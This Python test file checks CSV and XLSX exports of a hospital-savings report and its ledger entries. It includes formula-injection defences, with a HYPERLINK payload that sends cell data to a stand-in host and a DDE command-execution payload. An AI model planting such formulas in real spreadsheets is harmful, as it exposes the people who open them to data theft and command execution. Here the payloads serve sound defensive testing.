"""The regulator's report and the entries as files: the same figures, whole Chinese, and no text that is a formula."""

import csv
import io
import subprocess
from collections.abc import Callable, Iterable, Sequence
from datetime import timedelta
from decimal import Decimal
from itertools import takewhile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text
from typer.testing import CliRunner, Result

from catalog.db import transaction
from catalog.errors import InvalidInput
from exchange import table_files
from exchange.cli_savings import savings_app
from exchange.table_files import Column, Table, csv_of, xlsx_of
from tests.catalog.test_item_lists import changed
from tests.city import environment_of_commands
from tests.exchange.conftest import Service
from tests.exchange.test_curation import as_csv
from tests.exchange.test_savings_api import JUNE, read, recognised

COUNTERS = ("reminders", "recognised", "refused", "excused", "beyond_duty", "cited", "undone", "unpriced")
MONEY = ("saved_fen", "reversed_fen", "net_fen")
FORM = "/v1/savings/forms/{form_name}"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
LINK = '=HYPERLINK("http://x.example/?"&A1,"乙,医院")'
DDE = "=cmd|' /C calc'!A0"
DANGEROUS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
FORMS = pytest.mark.parametrize("form", ["csv", "xlsx"])


@pytest.fixture
def busy(service: Service) -> Service:
    """Two recognitions at B; what the second was to avoid has been done after all."""
    service.city.study("A", 4)
    recognised(service)
    recognised(service, "2", 4)
    service.city.now += timedelta(hours=1)
    service.city.study("B", 4, days_ago=0)
    return service


def cells_of_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    assert not content.startswith(b'\xef\xbb\xbf"')  # some take such a quote for a part of the first heading
    return above_footer(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def above_footer(lines: Iterable[list[str]]) -> list[list[str]]:
    """Return the lines above that which says as of when they are, where a table has one."""
    return list(takewhile(lambda line: line[:1] != ["截至 as of"], lines))


def cells_of(content: bytes, form: str) -> list[list[str]]:
    """Return the cells of the first sheet as the texts that CSV has, money with two decimals."""
    if form == "csv":
        return cells_of_csv(content)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return above_footer([_plain(cell) for cell in row] for row in sheet.iter_rows())


def _plain(cell: Any) -> str:
    if isinstance(cell.value, bool):
        return str(cell.value).upper()
    if cell.value is not None and cell.number_format == "#,##0.00":
        assert cell.data_type == "n"
        return f"{cell.value:.2f}"
    return "" if cell.value is None else str(cell.value)


def fetch(service: Service, path: str) -> Any:
    answer = service.call("GET", path, role="regulator")
    assert answer.status_code == 200, answer.text
    return answer


def yuan(fen: int) -> str:
    return str(Decimal(fen) / 100 + Decimal("0.00"))


def figures(row: dict[str, Any], form: str) -> list[str]:
    rate = row["rate"]
    shown = "" if rate is None else str(int(rate) if form == "xlsx" and rate == int(rate) else rate)
    return [*(str(row[name]) for name in COUNTERS), shown, *(yuan(row[name]) for name in MONEY)]


@FORMS
@pytest.mark.parametrize("grouping", ["hospital,item,month", "month,hospital", "item", "district,tier", ""])
def test_a_file_of_the_report_has_its_rows_and_its_total(busy: Service, form: str, grouping: str) -> None:
    path = f"/v1/savings?{JUNE}&group_by={grouping}"
    told = read(busy, path)
    heading, *rows, total = cells_of(fetch(busy, f"{path}&format={form}").content, form)
    names = [name for name in grouping.split(",") if name]
    labels = [
        label for name in names for label in ([name] if name in ("month", "tier") else [name, f"{name}_name"])
    ]
    assert rows == [
        [*([row[x] for x in labels] or ["全部 all"]), *figures(row, form)] for row in told["rows"]
    ]
    assert rows
    assert total[0] == "合计 total"
    assert total[-len(figures(told["total"], form)) :] == figures(told["total"], form)
    assert heading[-3:] == ["节约(元) saved yuan", "冲回(元) reversed yuan", "净额(元) net yuan"]
    assert total[-3:] == ["396.00", "198.00", "198.00"]


@FORMS
def test_a_month_without_anything_is_a_heading_and_a_total_of_nothing(quiet: Service, form: str) -> None:
    answer = fetch(quiet, f"/v1/savings?from=2020-01&to=2020-01&format={form}")
    _, total = cells_of(answer.content, form)
    assert total == ["合计 total", "", "", "", "", *["0"] * 8, "", "0.00", "0.00", "0.00"]


@FORMS
def test_a_file_of_entries_has_the_page_and_says_where_the_next_begins(busy: Service, form: str) -> None:
    path = f"/v1/savings/entries?{JUNE}&limit=2&hospital=B"
    told = read(busy, path)
    answer = fetch(busy, f"{path}&format={form}")
    _, *rows = cells_of(answer.content, form)
    assert rows == [entry_row(each) for each in told["entries"]]
    assert len(rows) == 2
    following = answer.headers["link"].removeprefix("<").removesuffix('>; rel="next"')
    last = fetch(busy, following)
    (row,) = cells_of(last.content, form)[1:]
    assert row == entry_row(read(busy, f"{path}&after={told['next']}")["entries"][0])
    assert row[2] == "-198.00"
    assert "link" not in last.headers
    if form == "xlsx":
        notes = openpyxl.load_workbook(io.BytesIO(answer.content)).worksheets[1]
        assert ("下一页 next page: after=", str(told["next"])) in [row[:2] for row in notes.values]


def entry_row(entry: dict[str, Any]) -> list[str]:
    order = (*("entry_id", "kind", "amount_fen", "hospital", "item", "business_date", "posted_at"),)
    order += ("decision_id", "cause", "own_hospital", "emergency", "beyond_duty")
    return [yuan(entry[name]) if name == "amount_fen" else _flag(entry[name]) for name in order]


def _flag(value: Any) -> str:
    return str(value).upper() if isinstance(value, bool) else str(value)


@pytest.mark.parametrize(("form", "kind"), [("csv", "text/csv; charset=utf-8"), ("xlsx", XLSX)])
@pytest.mark.parametrize(("path", "name"), [("", "savings"), ("/entries", "savings-entries")])
def test_a_file_is_kept_by_who_asked_and_by_nobody_on_the_way(
    quiet: Service, form: str, kind: str, path: str, name: str
) -> None:
    headers = fetch(quiet, f"/v1/savings{path}?{JUNE}&format={form}").headers
    assert headers["content-type"] == kind
    assert headers["content-disposition"] == f'attachment; filename="{name}_2026-06_2026-06.{form}"'
    assert (headers["cache-control"], headers["x-content-type-options"]) == ("no-store", "nosniff")


def test_json_is_what_is_answered_where_no_file_is_asked_for(busy: Service) -> None:
    for path in (f"/v1/savings?{JUNE}", f"/v1/savings/entries?{JUNE}"):
        plain, asked = fetch(busy, path), fetch(busy, f"{path}&format=json")
        assert plain.json() == asked.json()
        assert "content-disposition" not in asked.headers


@pytest.mark.parametrize(
    ("path", "written"),
    [("/v1/savings", "'json', 'csv', 'xlsx' or 'pdf'"), ("/v1/savings/entries", "'json', 'csv' or 'xlsx'")],
)
@pytest.mark.parametrize("form", ["doc", "CSV", "", "csv,xlsx"])
def test_a_form_that_is_not_written_is_refused_by_its_field(
    quiet: Service, path: str, written: str, form: str
) -> None:
    answer = quiet.call("GET", f"{path}?format={form}", role="regulator")
    assert answer.status_code == 422
    (fault,) = answer.json()["errors"]
    assert (fault["field"], fault["message"]) == ("format", f"Input should be {written}")


@FORMS
def test_a_file_is_for_those_alone_who_may_read_the_figures(busy: Service, form: str) -> None:
    path = f"/v1/savings/entries?{JUNE}&format={form}"
    for role in ("doctor", "curator", "operator"):
        for asked in (path, f"/v1/savings?format={form}"):
            assert busy.call("GET", asked, role=role).status_code == 403

    def seen_from(hospital: str) -> int:
        own = {"Authorization": f"Bearer {busy.token('auditor', hospital)}"}
        return len(cells_of(busy.call("GET", path, role="", headers=own).content, form)) - 1

    assert (seen_from("A"), seen_from("B")) == (0, 3)


def test_a_workbook_says_what_it_is_and_what_its_columns_mean(busy: Service) -> None:
    book = openpyxl.load_workbook(io.BytesIO(fetch(busy, f"/v1/savings?{JUNE}&format=xlsx").content))
    sheet, notes = book.worksheets
    assert sheet.freeze_panes == "A2"
    *lines, as_of, june = sheet.iter_rows()
    assert [cell.value for cell in as_of[:3]] == ["截至 as of", busy.city.now.isoformat(), None]
    assert [cell.value for cell in june[:3]] == ["2026-06 修订 revision", "0", None]
    assert [{cell.font.bold for cell in line} for line in lines] == [{True}, {False}, {True}]
    assert all(12 <= sheet.column_dimensions[cell.column_letter].width <= 42 for cell in lines[0])
    assert {cell.data_type for line in lines for cell in line} == {"s", "n"}
    told = list(notes.values)
    assert told[1][:2] == ("期间 period", "2026-06 — 2026-06")
    assert told[2][:2] == ("截至 as of", busy.city.now.isoformat(timespec="seconds"))
    assert [row[0] for row in told[3:]] == [cell.value for cell in lines[0]]
    assert all(all(row) for row in told[3:])


def test_no_text_that_others_can_set_becomes_a_formula(busy: Service) -> None:
    city = busy.city
    lab = city.hospital("0012")
    check = city.check(lab, [{"order_number": "9", "item_code": "CT07"}])
    city.decide(lab, check, "9", "recognise")
    with transaction(city.catalogue.engine) as session:
        session.execute(text("update hospital set name = :name where code = 'B'"), {"name": LINK})
        session.execute(text("update hospital set name = '#N/A' where code = '0012'"))
    imported = busy.call(
        "POST",
        "/v1/admin/item-lists?version=2026-2&effective_from=2026-07-01",
        role="curator",
        content=as_csv(changed("CT07", name_zh=DDE)),
        headers={"Content-Type": "text/csv"},
    )
    assert imported.status_code < 300, imported.text
    path = f"/v1/savings?{JUNE}&format="
    _, plain, other, total = cells_of_csv(fetch(busy, f"{path}csv").content)
    assert plain[:4] == ["0012", "#N/A", "CT07", f"'{DDE}"]
    assert other[:4] == ["B", f"'{LINK}", "CT07", f"'{DDE}"]
    assert total[-3:] == [yuan(read(busy, f"/v1/savings?{JUNE}")["total"][name]) for name in MONEY]
    sheet = openpyxl.load_workbook(io.BytesIO(fetch(busy, f"{path}xlsx").content)).worksheets[0]
    _, plain_cells, other_cells, *_ = sheet.iter_rows()
    for cells, texts in ((plain_cells, ("0012", "#N/A", "CT07", DDE)), (other_cells, ("B", LINK))):
        for cell, expected in zip(cells, texts, strict=False):
            assert (cell.value, cell.data_type, cell.number_format) == (expected, "s", "@")
    _, *entries = cells_of_csv(fetch(busy, f"/v1/savings/entries?{JUNE}&format=csv").content)
    assert {row[3] for row in entries} == {"B", "0012"}
    assert "-198.00" in {row[2] for row in entries}


@pytest.fixture
def command(busy: Service, fresh_database_url: str, tmp_path: Path) -> Callable[..., Result]:
    """Run `huren savings …` on the database of the service, at its time."""
    environment = environment_of_commands(fresh_database_url, tmp_path, busy.city.now)
    return lambda *words: CliRunner(env=environment).invoke(savings_app, words)


@FORMS
def test_the_command_writes_what_the_service_serves(
    busy: Service, command: Callable[..., Result], tmp_path: Path, form: str
) -> None:
    months = ("--from", "2026-06", "--to", "2026-06")
    for words, path in (
        (("report", "--group-by", "hospital"), "/v1/savings?group_by=hospital"),
        (("entries", "--limit", "2"), "/v1/savings/entries?limit=2"),
    ):
        out = tmp_path / f"{words[0]}.{form.upper()}"
        done = command(*words, *months, "--out", str(out))
        assert done.exit_code == 0, done.output
        assert ("--after" in done.output) == (words[0] == "entries")
        served = fetch(busy, f"{path}&{JUNE}&format={form}").content
        assert cells_of(out.read_bytes(), form) == cells_of(served, form)


@pytest.mark.parametrize("name", ["june.xls", "june", "june.csv.gz", "csv"])
@pytest.mark.parametrize("words", ["report", "entries"])
def test_the_command_refuses_a_name_that_tells_no_form(words: str, name: str, tmp_path: Path) -> None:
    folder = ("--data-dir", str(tmp_path / "data"))
    done = CliRunner().invoke(savings_app, [words, "--out", str(tmp_path / name), *folder])
    assert isinstance(done.exception, InvalidInput)
    assert done.exception.field == "out"
    assert list(tmp_path.iterdir()) == []


def table_of(rows: Sequence[Sequence[Any]]) -> Table:
    columns = [Column(f"列{i}", f"column {i}", "含义", "meaning") for i in range(len(rows[0]) if rows else 3)]
    return Table("表 table", [("期间 period", "2026")], columns, rows)


ANY_TEXT = st.text(max_size=12) | st.tuples(st.sampled_from(DANGEROUS), st.text(max_size=6)).map("".join)
ROWS = st.integers(1, 4).flatmap(lambda n: st.lists(st.lists(ANY_TEXT, min_size=n, max_size=n), max_size=5))


@given(rows=ROWS)
def test_whatever_texts_are_written_as_csv_come_back_and_none_begins_a_formula(rows: list[list[str]]) -> None:
    _, *found = cells_of_csv(csv_of(table_of(rows)))
    for written, came in zip(rows, found, strict=True):
        for given_text, cell in zip(written, came, strict=True):
            assert cell == (f"'{given_text}" if given_text.startswith(DANGEROUS) else given_text)
            assert not cell.startswith(DANGEROUS)


@given(
    numbers=st.lists(st.decimals(places=2, min_value=-(10**13), max_value=10**13) | st.integers(), min_size=1)
)
def test_a_number_is_never_touched_in_csv_however_negative(numbers: list[Decimal | int]) -> None:
    content = csv_of(table_of([numbers]))
    assert content.decode("utf-8-sig").split("\r\n")[1] == ",".join(str(each) for each in numbers)


@given(rows=ROWS)
def test_whatever_texts_are_written_as_xlsx_are_texts(rows: list[list[str]]) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_of(table_of(rows)))).worksheets[0]
    for written, cells in zip(rows, list(sheet.iter_rows())[1:], strict=True):
        for given_text, cell in zip(written, cells, strict=True):
            assert cell.data_type == "s" or not given_text
            if given_text.isprintable():
                assert (cell.value or "") == given_text


def test_a_table_that_would_keep_the_service_busy_is_had_as_csv_only() -> None:
    row = ["B"] * 3
    longest = table_files.MOST_XLSX_ROWS
    with pytest.raises(InvalidInput) as refused:
        xlsx_of(table_of([row] * (longest + 1)))
    assert refused.value.field == "format"
    assert len(cells_of_csv(csv_of(table_of([row] * (longest + 1))))) == longest + 2


def test_the_description_names_the_files_beside_the_answer(quiet: Service) -> None:
    told = quiet.call("GET", "/openapi.json", role="operator").json()["paths"]
    for path, more in (("/v1/savings", ["pdf"]), ("/v1/savings/entries", []), (FORM, [])):
        content = told[path]["get"]["responses"]["200"]["content"]
        assert set(content) == {
            "application/json",
            "text/csv",
            XLSX,
            *(f"application/{each}" for each in more),
        }
        (form,) = [each for each in told[path]["get"]["parameters"] if each["name"] == "format"]
        assert (form["required"], form["schema"]["enum"]) == (False, ["json", "csv", "xlsx", *more])


def test_libreoffice_opens_both_files_with_the_totals_of_the_report(
    busy: Service, require_tool: Callable[[str], str], tmp_path: Path
) -> None:
    soffice = require_tool("soffice")
    with transaction(busy.city.catalogue.engine) as session:
        session.execute(text("update hospital set name = :name where code = 'B'"), {"name": LINK})
    told = read(busy, f"/v1/savings?{JUNE}&group_by=hospital")
    expected = figures(told["total"], "csv")
    as_text = "Text - txt - csv (StarCalc):44,34,76,1"  # comma, quotes, UTF-8
    for form, reading in (("csv", [f"--infilter={as_text}"]), ("xlsx", [])):
        file = tmp_path / f"savings.{form}"
        file.write_bytes(fetch(busy, f"/v1/savings?{JUNE}&group_by=hospital&format={form}").content)
        command = [soffice, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", *reading]
        command += ["--convert-to", f"csv:{as_text}", "--outdir", str(tmp_path / form), str(file)]
        subprocess.run(command, check=True, capture_output=True, timeout=120)
        opened = (tmp_path / form / "savings.csv").read_bytes().removeprefix(b"\xef\xbb\xbf").decode()
        heading, row, total, as_of, _june = csv.reader(io.StringIO(opened, newline=""))
        assert as_of[:2] == ["截至 as of", busy.city.now.isoformat()]
        assert heading[:2] == ["机构代码 hospital", "机构名称 hospital name"]
        assert row[:2] == ["B", LINK if form == "xlsx" else f"'{LINK}"]
        numbers = [value(each) for each in total[2:]]
        assert numbers == [value(each) for each in expected]


def value(cell: str) -> Decimal:
    return Decimal(cell.removesuffix("%")) / 100 if cell.endswith("%") else Decimal(cell)
